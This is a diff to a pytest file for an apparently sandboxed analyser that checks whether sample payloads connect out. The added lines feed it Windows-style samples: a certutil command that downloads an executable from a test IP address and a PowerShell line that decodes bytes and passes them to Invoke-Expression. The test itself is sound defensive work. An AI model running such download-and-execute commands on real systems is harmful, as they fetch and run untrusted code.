@@ -143,6 +143,11 @@ def test_a_bench_has_nothing_open_but_its_socket_and_works_confined() -> None:
         listening.close()
         assert bench.examine(connect_back_cmd())["says"] == CONNECTS
         assert bench.examine(b"wget http://203.0.113.9/x")["says"] == []
+        for to_windows in (
+            b"@echo off\r\ncertutil -urlcache -f http://203.0.113.9/x x.exe\r\n",
+            b"$a = [Text.Encoding]::UTF32.GetString([byte[]](1, 2, 3, 4)); Invoke-Expression $a",
+        ):
+            assert bench.examine(to_windows)["says"] == []  # fmt: skip
         with pytest.raises(ConnectionRefusedError):  # its copy of the listening socket is closed
             socket.create_connection(("127.0.0.1", port))
         bench.close()
